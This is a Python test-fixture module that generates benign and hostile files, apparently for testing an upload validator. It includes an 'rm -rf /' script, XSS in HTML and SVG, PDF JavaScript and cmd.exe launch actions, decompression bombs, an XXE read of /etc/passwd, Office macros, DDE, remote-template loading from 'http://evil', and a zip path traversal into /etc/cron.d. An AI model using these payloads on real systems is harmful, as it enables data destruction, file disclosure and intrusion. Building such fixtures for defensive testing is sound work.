"""Real files, good and hostile, made here byte by byte."""

import io
import struct
import zipfile
import zlib

import pikepdf
import xlsxwriter
from PIL import Image

GPS = {1: "N", 2: (37.0, 11.0, 20.0), 3: "E", 4: (112.0, 10.0, 30.0)}


def picture(size=(800, 600), form="JPEG", exif=True):
    drawn, out = Image.effect_noise(size, 60).convert("RGB"), io.BytesIO()
    tags = Image.Exif()
    tags[0x010F], tags[0x0110], tags[0x0132] = "Huawei", "P40", "2023:07:01 08:00:00"
    tags[0x0112] = 6  # held upright: to be turned
    tags.get_ifd(0x8825).update(GPS)
    drawn.save(out, form, **({"exif": tags} if exif else {}), **({"comment": b"taken at home"} if form == "JPEG" else {}))
    return out.getvalue()


def png(width, height, body=b"", words=b""):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + (chunk(b"zTXt", words) if words else b"")
        + chunk(b"IDAT", body or zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def pdf(pages=1, jpeg=None, **root):
    out = io.BytesIO()
    with pikepdf.new() as paper:
        for _ in range(pages):
            page = paper.add_blank_page()
            if jpeg:
                image = pikepdf.Stream(paper, jpeg)
                image.Type, image.Subtype, image.Width, image.Height = pikepdf.Name.XObject, pikepdf.Name.Image, 800, 600
                image.ColorSpace, image.BitsPerComponent, image.Filter = pikepdf.Name.DeviceRGB, 8, pikepdf.Name.DCTDecode
                page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        paper.docinfo["/Author"] = "王某"
        for name, value in root.items():
            paper.Root[f"/{name}"] = paper.make_indirect(value) if isinstance(value, pikepdf.Dictionary) else value
        paper.save(out)
    return out.getvalue()


def script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def pdf_bomb():
    """An object stream that unpacks to a gigabyte."""
    packed = zlib.compressobj(9)
    body = b"".join([packed.compress(b"1 0 " + b" " * 1_000_000) for _ in range(1000)] + [packed.flush()])
    stream = b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body) + body + b"\nendstream endobj\n"
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 3 0 R>>endobj\n"
    return head + stream + b"trailer\n<</Root 1 0 R/Size 4>>\n%%EOF"


def xlsx(text="王某"):
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, text)
    return out.getvalue()


WORD = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "word/document.xml": "<w:document xmlns:w='x'><w:body/></w:document>",
    "word/_rels/document.xml.rels": "<Relationships/>",
}


def container(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, part in parts.items():
            made.writestr(name, part)
    return out.getvalue()


def relation(kind, target, mode="External"):
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def locked_pdf():
    out = io.BytesIO()
    with pikepdf.new() as paper:
        paper.add_blank_page()
        paper.save(out, encryption=pikepdf.Encryption(user="a", owner="b"))
    return out.getvalue()


HOSTILE = {
    "empty": lambda: b"",
    "program": lambda: b"MZ" + bytes(5000),
    "elf": lambda: b"\x7fELF" + bytes(5000),
    "script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "svg": lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
    "heic": lambda: b"\x00\x00\x00\x18ftypheic" + bytes(500),
    "gif": lambda: b"GIF89a" + bytes(500),
    "too long": lambda: b"%PDF-1.7\n" + bytes(21 * 1024 * 1024),
    "half a jpeg": lambda: picture()[:5000],
    "no jpeg": lambda: b"\xff\xd8\xff\xe0" + bytes(5000),
    "30,000 x 30,000": lambda: png(30_000, 30_000, zlib.compress(bytes(30_001) * 3000, 9)),
    "png of lies": lambda: png(60_000, 60_000),
    "png text bomb": lambda: png(10, 10, words=b"a\x00\x00" + zlib.compress(bytes(200_000_000), 9)),
    "no pdf": lambda: b"%PDF-1.7\nnothing at all",
    "pdf without pages": lambda: pdf(0),
    "pdf script": lambda: pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script()])))),
    "pdf opens a script": lambda: pdf(OpenAction=script()),
    "pdf launches": lambda: pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
    "pdf carries a file": lambda: pdf(Any=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary())),
    "pdf form with script": lambda: pdf(AcroForm=pikepdf.Dictionary(XFA="x", Fields=pikepdf.Array([]))),
    "pdf locked": locked_pdf,
    "pdf bomb": pdf_bomb,
    "zip": lambda: container({"a.txt": "a"}),
    "zip bomb": lambda: container(WORD | {"word/media/a.xml": bytes(100 * 1024 * 1024)}),
    "zip bomb of many": lambda: container(WORD | {f"word/{n}.xml": b"<a/>" for n in range(2100)}),
    "external entity": lambda: container(WORD | {"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    "macro book": lambda: container(WORD | {"word/vbaProject.bin": b"x"}),
    "macro by type": lambda: container(
        WORD | {"[Content_Types].xml": "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}
    ),
    "embedded program": lambda: container(WORD | {"word/embeddings/oleObject1.bin": b"MZ"}),
    "program as picture": lambda: container(WORD | {"word/media/image1.png": b"MZ" + bytes(100)}),
    "template from outside": lambda: container(WORD | {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil/x.dotm")}),
    "picture from outside": lambda: container(WORD | {"word/_rels/document.xml.rels": relation("image", "http://evil/pixel.png")}),
    "dde": lambda: container(WORD | {"word/document.xml": "<w:document>DDEAUTO c:\\\\cmd.exe</w:document>"}),
    "climbs out": lambda: container(WORD | {"../../etc/cron.d/x": "x"}),
    "cut office": lambda: container(WORD)[:-40],
    "broken office": lambda: container(WORD)[:60] + bytes(4000),
}
